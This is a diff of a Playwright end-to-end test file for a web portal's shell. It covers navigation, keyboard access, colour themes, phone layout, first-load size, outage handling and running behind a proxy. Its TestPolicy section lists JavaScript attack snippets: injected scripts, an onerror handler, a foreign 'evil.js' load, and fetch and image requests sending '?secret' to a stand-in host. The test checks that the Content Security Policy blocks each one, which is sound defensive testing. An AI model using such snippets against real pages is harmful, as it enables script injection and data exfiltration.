@@ -1,22 +1,227 @@
-"""The frame of the portal: its pages, its policy, its size, on a laptop, a phone and behind a proxy."""
+"""The frame of the portal: its pages, its policy, its size; on a laptop, on a phone, behind a proxy, without the service."""
 
 from __future__ import annotations
 
+import re
 from collections.abc import Callable
+from contextlib import AbstractContextManager
 from pathlib import Path
+from urllib.parse import urlsplit
 
+import httpx
 import pytest
-from playwright.sync_api import Page, expect
+from playwright.sync_api import Browser, Page, expect
 
-PAGES = ("query", "tables", "examples", "jobs", "uploads")
+from tests.e2e.conftest import Shot
+from tests.tap_service.conftest import Served
+from tests.tap_service.nginx import behind_nginx
+
+PAGES = {"query": "Query", "tables": "Tables", "examples": "Examples", "jobs": "Jobs", "uploads": "Upload"}
+#: of everything that the first page needs, compressed by gzip, which is the most
+FIRST_LOAD = 300_000
 
 
-@pytest.mark.parametrize("name", PAGES)
-def test_each_page(
-    page: Page, portal_url: str, name: str, shot: Callable[[Page, str], Path], accessible: Callable[[Page], None]
-) -> None:
-    page.goto(f"{portal_url}#/{name}")
-    expect(page.get_by_role("navigation", name="Pages").locator("[aria-current=page]")).to_have_count(1)
+def settled(page: Page, url: str) -> None:
+    page.goto(url)
     page.wait_for_load_state("networkidle")
-    shot(page, f"shell-{name}")
-    accessible(page)
+
+
+class TestPages:
+    def test_each_is_a_click_away(self, page: Page, portal_url: str) -> None:
+        page.goto(portal_url)
+        links = page.get_by_role("navigation", name="Pages").get_by_role("link")
+        assert links.all_inner_texts() == list(PAGES.values())
+        for name, title in PAGES.items():
+            links.filter(has_text=title).click()
+            expect(page).to_have_url(f"{portal_url}#/{name}")
+            expect(page).to_have_title(f"{title} · Skyhouse")
+            expect(links.and_(page.locator("[aria-current=page]"))).to_have_text(title)
+        page.go_back()
+        expect(page).to_have_title("Jobs · Skyhouse")
+
+    def test_an_address_of_no_page(self, page: Page, portal_url: str) -> None:
+        page.goto(f"{portal_url}#/nowhere")
+        expect(page.get_by_text("There is no such page.")).to_be_visible()
+        expect(page.get_by_role("navigation", name="Pages")).to_be_visible()
+
+    @pytest.mark.parametrize("name", PAGES)
+    def test_looks_and_accessibility(
+        self, page: Page, portal_url: str, name: str, shot: Shot, accessible: Callable[[Page], None]
+    ) -> None:
+        settled(page, f"{portal_url}#/{name}")
+        for colours in ("light", "dark"):
+            page.emulate_media(color_scheme=colours)
+            shot(page, f"shell-{name}-{colours}")
+            accessible(page)
+
+    @pytest.mark.parametrize("name", PAGES)
+    def test_on_a_phone(
+        self, phone: Page, portal_url: str, name: str, shot: Shot, accessible: Callable[[Page], None]
+    ) -> None:
+        """Nothing is wider than the screen but what scrolls in itself; each link of the navigation can be reached."""
+        settled(phone, f"{portal_url}#/{name}")
+        shot(phone, f"shell-{name}-phone")
+        assert phone.evaluate("document.documentElement.scrollWidth") <= 390
+        assert phone.evaluate("document.getElementById('main').scrollWidth") <= 390
+        for link in phone.get_by_role("navigation", name="Pages").get_by_role("link").all():
+            link.scroll_into_view_if_needed()
+            assert link.bounding_box()["height"] >= 24
+        accessible(phone)
+
+
+class TestKeyboard:
+    def test_skips_the_navigation(self, page: Page, portal_url: str) -> None:
+        page.goto(f"{portal_url}#/tables")
+        skip = page.get_by_role("link", name="Skip to the page")
+        expect(skip).not_to_be_in_viewport()
+        page.keyboard.press("Tab")
+        expect(skip).to_be_focused()
+        expect(skip).to_be_in_viewport()
+        page.keyboard.press("Enter")
+        expect(page.locator("#main")).to_be_focused()
+        expect(page).to_have_url(f"{portal_url}#/tables")
+
+    def test_goes_through_the_pages(self, page: Page, portal_url: str) -> None:
+        page.goto(portal_url)
+        link = page.get_by_role("link", name="Examples", exact=True)
+        for _ in range(10):
+            page.keyboard.press("Tab")
+            if link.evaluate("link => link === document.activeElement"):
+                break
+        assert link.evaluate("link => getComputedStyle(link).outlineStyle") == "solid"
+        page.keyboard.press("Enter")
+        expect(page).to_have_url(f"{portal_url}#/examples")
+
+
+class TestColours:
+    GROUND = "getComputedStyle(document.body).backgroundColor"
+
+    def brightness(self, page: Page) -> int:
+        return sum(map(int, re.findall(r"\d+", page.evaluate(self.GROUND))[:3]))
+
+    def test_those_of_the_system(self, page: Page, portal_url: str) -> None:
+        page.goto(portal_url)
+        light = self.brightness(page)
+        page.emulate_media(color_scheme="dark")
+        assert self.brightness(page) < 150 < 600 < light
+
+    def test_those_that_are_chosen_stay(self, page: Page, portal_url: str) -> None:
+        page.goto(portal_url)
+        page.get_by_role("combobox", name="Colours").select_option("dark")
+        assert self.brightness(page) < 150
+        page.reload()
+        assert self.brightness(page) < 150
+        expect(page.get_by_role("combobox", name="Colours")).to_have_value("dark")
+
+
+#: what a page of ours must not be able to do, in case somebody's words get into it as markup
+ATTACKS = {
+    "a script in the page": """() => {
+        const script = document.createElement('script');
+        script.textContent = 'window.attacked = true';
+        document.body.append(script);
+        return window.attacked ?? false;
+    }""",
+    "an event handler": """async () => {
+        const host = document.createElement('div');
+        host.innerHTML = '<img src="data:," onerror="window.attacked = true">';
+        document.body.append(host);
+        await new Promise((resolve) => setTimeout(resolve, 300));
+        return window.attacked ?? false;
+    }""",
+    "a script of another host": """() => new Promise((resolve) => {
+        const script = document.createElement('script');
+        script.src = 'http://localhost:9/evil.js';
+        script.onerror = () => resolve(false);
+        script.onload = () => resolve(true);
+        document.body.append(script);
+        document.addEventListener('securitypolicyviolation', () => resolve(false));
+    })""",
+    "an inline style": """() => {
+        const host = document.createElement('div');
+        host.innerHTML = '<p style="color: rgb(1, 2, 3)">x</p>';
+        document.body.append(host);
+        return getComputedStyle(host.firstChild).color === 'rgb(1, 2, 3)';
+    }""",
+    "words sent elsewhere": """() => fetch('http://localhost:9/?secret').then(() => true, () => false)""",
+    "a picture of another host": """() => new Promise((resolve) => {
+        const image = new Image();
+        image.onload = () => resolve(true);
+        image.onerror = () => resolve(false);
+        image.src = 'http://localhost:9/?secret';
+    })""",
+    "another base": """() => {
+        const base = document.createElement('base');
+        base.href = 'http://localhost:9/';
+        document.head.prepend(base);
+        return document.baseURI.includes(':9');
+    }""",
+}
+
+
+class TestPolicy:
+    def test_is_in_force(self, browser: Browser, portal_url: str) -> None:
+        """The browser refuses each attack, and says that it was the policy."""
+        with browser.new_context() as context:
+            page = context.new_page()
+            page.goto(portal_url)
+            page.evaluate("document.addEventListener('securitypolicyviolation', () => window.refused++)")
+            for name, attack in ATTACKS.items():
+                page.evaluate("window.refused = 0")
+                assert page.evaluate(attack) is False, name
+                page.wait_for_function("window.refused > 0")
+
+    def test_no_other_site_can_frame_it(self, browser: Browser, portal_url: str) -> None:
+        with browser.new_context() as context:
+            page = context.new_page()
+            refused = []
+            page.on("console", lambda message: refused.append(message.text))
+            page.set_content(f'<iframe src="{portal_url}"></iframe>')
+            page.wait_for_timeout(500)
+            assert any("frame-ancestors" in text for text in refused)
+
+
+def test_the_first_load_is_small(page: Page, portal_url: str) -> None:
+    """All that the portal is asked for when it opens, and what the service answers, compressed as any client can."""
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    settled(page, portal_url)
+    sizes = {}
+    for url in asked:
+        if urlsplit(url).scheme == "http":
+            with httpx.stream("GET", url, headers={"Accept-Encoding": "gzip"}) as answer:
+                sizes[url] = len(b"".join(answer.iter_raw()))
+    assert any(url.endswith(".js") for url in sizes)
+    assert sum(sizes.values()) < FIRST_LOAD, sizes
+
+
+@pytest.mark.parametrize("name", ["tables", "examples"])
+def test_without_the_service(
+    page: Page, portal_url: str, name: str, no_service: Callable[[Page], AbstractContextManager[None]], shot: Shot
+) -> None:
+    """A sentence says so, and the page goes on when the service is back."""
+    with no_service(page):
+        settled(page, f"{portal_url}#/{name}")
+        expect(page.get_by_text("The service does not answer.").first).to_be_visible()
+        shot(page, f"shell-{name}-down")
+        page.get_by_role("link", name="Query", exact=True).click()
+        expect(page).to_have_title("Query · Skyhouse")
+    settled(page, f"{portal_url}#/{name}")
+    page.reload()
+    page.wait_for_load_state("networkidle")
+    expect(page.get_by_text("The service does not answer.")).to_have_count(0)
+
+
+def test_behind_a_proxy(
+    open_page: Callable[..., Page], portal: Served, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    """Under a path prefix, with TLS: its files, and what it asks the service."""
+    folder: Path = tmp_path_factory.mktemp("nginx")
+    with behind_nginx(folder, portal.url) as (url, _):
+        page = open_page(host=urlsplit(url).netloc, ignore_https_errors=True)
+        asked: list[str] = []
+        page.on("response", lambda response: asked.append(f"{response.status} {urlsplit(response.url).path}"))
+        settled(page, f"{url}/#/tables")
+        expect(page.get_by_text("tycho2").first).to_be_visible()
+        assert all(path.startswith("200 /archive/") for path in asked), asked
+        assert any(path.startswith("200 /archive/tap/") for path in asked)
